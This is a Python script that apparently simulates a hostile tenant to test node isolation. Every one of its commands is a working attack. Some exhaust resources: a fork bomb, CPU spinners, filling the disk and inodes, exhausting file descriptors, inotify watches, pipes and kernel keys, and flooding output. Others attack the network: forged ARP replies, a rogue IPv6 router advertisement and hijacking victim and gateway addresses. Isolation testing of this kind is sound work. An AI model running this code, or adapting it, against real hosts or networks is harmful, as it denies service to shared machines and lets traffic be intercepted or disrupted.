"""What a tenant does in a node of his own; the first argument says which of it.

What was taken is printed as `took NUMBER THING`; what is held is held until this program is ended.
"""

import ctypes
import os
import platform
import resource
import socket
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
NEW_NETWORK, NEW_USER = 0x40000000, 0x10000000


def say(number, thing):
    print(f"took {number} {thing}", flush=True)


def hold():
    while True:
        time.sleep(60)


def in_children(n_children, take, limit):
    """Takes in children of many users, in user namespaces of their own and not, and returns how many there were."""
    count = 0
    for user in range(n_children):
        read_end, write_end = os.pipe()
        if os.fork() == 0:
            os.close(read_end)
            if user % 3 == 1:
                os.setuid(user)
            if user % 3 == 2:
                LIBC.unshare(NEW_USER)
            got = 0
            try:
                while got < limit and take():
                    got += 1
            except OSError:
                pass
            os.write(write_end, b"%d\n" % got)
            hold()
        os.close(write_end)
        count += int(os.read(read_end, 9) or b"0")
    return count


def deep(levels):
    os.makedirs("/root/deep", exist_ok=True)
    os.chdir("/root/deep")
    for _ in range(int(levels)):
        os.mkdir("d")
        os.chdir("d")
    say(levels, "levels")
    hold()


def kernel():
    """What the kernel counts for all of a machine: each as often as it can be had, all of it at once."""
    for name in os.listdir("/proc/sys/user"):
        try:
            with open("/proc/sys/user/" + name, "w") as file:
                file.write("90000")
        except OSError:
            pass
    say(in_children(20, lambda: LIBC.inotify_init() >= 0, 100), "inotify")
    say(in_children(20, os.pipe, 250), "pipes")
    say(in_children(20, lambda: LIBC.unshare(NEW_NETWORK) == 0, 1), "networks")
    say(keys(), "keys")
    hold()


def keys():
    add_key = {"x86_64": 248, "aarch64": 217, "armv7l": 309}[platform.machine()]
    taken = 0
    for number in range(300):
        name = b"key-%d" % number
        taken += LIBC.syscall(add_key, b"user", name, b"x", 1, ctypes.c_int(-4)) > 0
    return taken


def files():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    say(in_children(60, lambda: os.open("/dev/null", os.O_RDONLY) >= 0, 20000), "files")
    hold()


def fork():
    # Two that fork for ever make up for each other.
    for _ in range(2):
        os.fork()
    while True:
        try:
            if os.fork() == 0:
                continue
        except OSError:
            pass


def spin():
    for _ in range(8):
        if os.fork() == 0:
            while True:
                pass
    hold()


def disk():
    for path in ("/root/full", "/var/tmp/full", "/opt/full"):
        taken = 0
        try:
            with open(path, "wb", buffering=0) as file:
                while True:
                    taken += file.write(bytes(1 << 20))
        except OSError:
            pass
        say(taken >> 20, "megabytes")
    os.unlink("/root/full")
    os.mkdir("/root/many")
    taken = 0
    try:
        while True:
            os.close(os.open(f"/root/many/{taken}", os.O_CREAT))
            taken += 1
    except OSError:
        pass
    say(taken, "inodes")
    hold()


def flood():
    line = b"x" * 4000 + b"\n"
    while True:
        os.write(1, line)
        os.write(2, line)


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def arp(own, source_ip, target_ip):
    header = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    addresses = own + socket.inet_aton(source_ip) + b"\xff" * 6 + socket.inet_aton(target_ip)
    return b"\xff" * 6 + own + b"\x08\x06" + header + addresses


def router_advertisement(own):
    source = socket.inet_pton(socket.AF_INET6, "fe80::bad")
    target = socket.inet_pton(socket.AF_INET6, "ff02::1")
    # A router for half an hour, preferred, and a network of its own.
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0)
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + b"\x01\x01" + own + prefix
    body += socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    pseudo = source + target + struct.pack("!IHBB", len(body), 0, 0, 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    header = struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + target
    return mac("33:33:00:00:00:01") + own + b"\x86\xdd" + header + body


def frames(victim, gateway):
    """Says to be the router, the victim and the gateway, with the own hardware address and with the victim's."""
    own = b"\x02\xc0" + socket.inet_aton(os.environ["MY_IP"])
    of_victim = b"\x02\xc0" + socket.inet_aton(victim)
    card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    card.bind(("eth0", 0))
    for command in (f"address add {victim}/24 dev eth0", f"address add {gateway}/24 dev eth0"):
        os.system(f"ip {command} 2>/dev/null")
    sent = 0
    while True:
        for sender in (own, of_victim):
            for frame in (
                router_advertisement(sender),
                arp(sender, victim, gateway),
                arp(sender, gateway, victim),
                mac("02:c0:ac:10:00:01") + sender + b"\x08\x00" + bytes(46),
            ):
                card.send(frame)
                sent += 1
        if sent == 800:
            say(sent, "frames")
        time.sleep(0.02)


ORDERS = (deep, kernel, files, fork, spin, disk, flood, frames)
{order.__name__: order for order in ORDERS}[sys.argv[1]](*sys.argv[2:])
